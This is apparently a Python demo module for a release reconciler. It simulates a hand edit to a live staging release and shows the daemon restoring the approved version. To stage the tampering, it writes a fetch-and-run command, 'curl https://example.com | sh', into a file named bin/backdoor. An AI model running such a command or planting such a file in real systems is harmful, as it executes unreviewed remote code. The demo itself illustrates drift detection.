"""`demo drift`: somebody edits the live release by hand. The daemon notices, and puts it back as it was approved."""

from __future__ import annotations

from reconciler.demo.folder import shown
from reconciler.demo.tour import STAGING, Tour
from reconciler.errors import Reason, Terminal

_EDITED, _FOREIGN = "README.md", "bin/backdoor"


def drift(tour: Tour) -> None:
    """Change one file of staging's live release, add another, and see both mended.

    Raises:
        ReconcilerError: There is nothing live that could be edited, or it was not mended.
    """
    story, folder = tour.story, tour.folder
    before = tour.watch.status(STAGING)
    if before is None or not before.ready:
        message = "staging is not Synced, so nobody knows what it should look like"
        raise Terminal(Reason.INVALID_SETTINGS, message, "reconciler why staging")
    story.headline("Somebody edits the live release of staging by hand.")
    with tour.process.paused():  # or it would be mended before anybody can look
        edited = tour.clock.now()
        _edit(tour)
        tour.type("diff", STAGING)
    tour.watch.until([STAGING], "staging is mended", lambda s: s.ready and s.live_since != before.live_since)
    seconds = (tour.clock.now() - edited).total_seconds()
    story.headline(f"Mended {seconds:.1f} s after the edit: {folder.release(STAGING)} is live, as it was approved.")
    tour.type("events", STAGING, "--limit", "3")


def _edit(tour: Tour) -> None:
    current = tour.folder.current(STAGING)
    for name, text in ((_EDITED, "debug: true"), (_FOREIGN, "curl https://example.com | sh")):
        tour.story.typed("somebody", f"echo '{text}' >> {shown(current / name)}")
        with (current / name).open("a") as file:
            file.write(f"{text}\n")
